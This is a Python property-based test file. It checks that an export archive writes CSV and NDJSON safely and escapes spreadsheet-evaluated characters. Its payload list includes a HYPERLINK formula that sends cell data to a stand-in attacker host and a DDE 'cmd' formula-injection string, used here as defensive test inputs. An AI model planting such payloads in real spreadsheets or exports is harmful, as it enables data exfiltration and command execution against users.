"""Hostile values in exports (RELIABILITY.md ``hostile-export``; decision 77): formula-shaped
text (``=HYPERLINK(…)``), keys and text with CR, LF, quotes and commas. Every CSV record
parses with the csv module into its columns, every NDJSON line parses as JSON, no text cell
starts with a character a spreadsheet evaluates, and undoing the documented rule (drop the
first character of a text cell that starts with an apostrophe) gives the stored value back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from outpost_contracts import alerting
from outpost_contracts import exports as api
from outpost_contracts.annotations import AnnotationView, Tag
from outpost_contracts.readings import ReadingsChunk
from outpost_exports.adapters.archive import (
    ANNOTATION_COLUMNS,
    EVENT_COLUMNS,
    READINGS_COLUMNS,
    Archive,
    manifest,
)

pytestmark = pytest.mark.unit

T = datetime(2024, 1, 1, tzinfo=UTC)
EVALUATED = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "temp\n",
    "a\rb",
    'x",=1+1,"',
    "'already quoted",
    "",
    "plain",
    "\u2028line separator",
]
TEXT = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=20))
SETTINGS = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def undo(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def safe_text_cell(cell: str, stored: str) -> None:
    assert not cell.startswith(EVALUATED), repr(cell)
    assert undo(cell) == stored, (cell, stored)


def finish(archive: Archive) -> None:
    archive.finish(
        manifest(
            export_id=uuid4(),
            org_id=uuid4(),
            scope_type=api.ScopeType.ORGANIZATION,
            scope_id=None,
            start=T,
            end=T,
            includes=list(api.SUPPORTED_INCLUDES),
            fmt=archive.format,
            devices=[],
            reading_count=0,
            annotation_count=0,
            generated_at=T,
        )
    )


def member(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name).decode()


def csv_records(text: str, columns: tuple[str, ...]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(columns)
    assert all(len(r) == len(columns) for r in rows), rows
    return rows[1:]


def ndjson_lines(text: str) -> list[dict[str, Any]]:
    assert text.endswith("\n") or text == ""
    return [json.loads(line) for line in text.split("\n")[:-1]]


@SETTINGS
@given(
    fmt=st.sampled_from([api.Format.CSV, api.Format.NDJSON]),
    sensors=st.lists(TEXT, min_size=1, max_size=3, unique=True),
    values=st.lists(
        st.one_of(
            TEXT,
            st.floats(allow_nan=False, allow_infinity=False),
            st.integers(-(2**53), 2**53),
            st.booleans(),
        ),
        min_size=1,
        max_size=8,
    ),
)
@example(fmt=api.Format.CSV, sensors=["temp\n"], values=['=HYPERLINK("x")', -3.5])
@example(fmt=api.Format.NDJSON, sensors=['te"mp\n'], values=["a\nb"])
def test_readings_with_hostile_keys_and_text(
    tmp_path: Path, fmt: api.Format, sensors: list[str], values: list[Any]
) -> None:
    path = tmp_path / f"r-{uuid4()}.zip"
    archive = Archive(path, fmt)
    archive.begin_readings()
    device = uuid4()
    index = [i % len(sensors) for i in range(len(values))]
    ts = [f"2024-01-01T00:00:{i:02d}.000000Z" for i in range(len(values))]
    chunk = ReadingsChunk(sensors=sensors, sensor_index=index, ts=ts, value=values, next=False)
    assert archive.write_readings(device, chunk) == len(values)
    archive.end_member()
    finish(archive)
    ext = "csv" if fmt == api.Format.CSV else "ndjson"
    text = member(path, f"readings.{ext}")
    if fmt == api.Format.NDJSON:
        lines = ndjson_lines(text)
        assert [(r["sensor"], r["value"]) for r in lines] == [
            (sensors[i], v) for i, v in zip(index, values, strict=True)
        ]
        return
    rows = csv_records(text, READINGS_COLUMNS)
    assert len(rows) == len(values)
    for (dev, sensor, t, cell), i, value, stamp in zip(rows, index, values, ts, strict=True):
        assert (dev, t) == (str(device), stamp)
        safe_text_cell(sensor, sensors[i])
        if isinstance(value, str):
            safe_text_cell(cell, value)
        elif isinstance(value, bool):
            assert cell == ("true" if value else "false")
        else:  # a number stays a number, -3.5 included
            assert float(cell) == value


def annotation(text: str, sensor: str) -> AnnotationView:
    return AnnotationView(
        id=uuid4(),
        device_id=uuid4(),
        class_id=uuid4(),
        from_=T,
        to=T,
        created_at=T,
        updated_at=T,
        version=1,
        sensor=sensor,
        text=text,
        tags=[Tag(key="=k", value="+v")],
    )


@SETTINGS
@given(
    fmt=st.sampled_from([api.Format.CSV, api.Format.NDJSON]),
    texts=st.lists(st.tuples(TEXT, TEXT), min_size=1, max_size=4),
)
def test_annotations_and_events_with_hostile_text(
    tmp_path: Path, fmt: api.Format, texts: list[tuple[str, str]]
) -> None:
    path = tmp_path / f"a-{uuid4()}.zip"
    archive = Archive(path, fmt)
    archive.begin_annotations()
    notes = [annotation(text, sensor) for text, sensor in texts]
    archive.write_annotations(notes)
    archive.end_member()
    archive.begin_events()
    entries = [
        alerting.TimelineEntry(id=uuid4(), ts=T, type=sensor, summary=text, data={"x": text})
        for text, sensor in texts
    ]
    archive.write_events(entries)
    archive.end_member()
    finish(archive)
    ext = "csv" if fmt == api.Format.CSV else "ndjson"
    notes_text, events_text = (member(path, f"{m}.{ext}") for m in ("annotations", "events"))
    if fmt == api.Format.NDJSON:
        got = ndjson_lines(notes_text)
        assert [(g["text"], g["sensor"]) for g in got] == texts
        assert [g["summary"] for g in ndjson_lines(events_text)] == [t for t, _ in texts]
        return
    for row, (text, sensor) in zip(csv_records(notes_text, ANNOTATION_COLUMNS), texts, strict=True):
        safe_text_cell(row[3], sensor)
        safe_text_cell(row[6], text)
        assert json.loads(row[7]) == [{"key": "=k", "value": "+v"}]
    for row, (text, sensor) in zip(csv_records(events_text, EVENT_COLUMNS), texts, strict=True):
        safe_text_cell(row[2], sensor)
        safe_text_cell(row[5], text)
        assert json.loads(row[6]) == {"x": text}
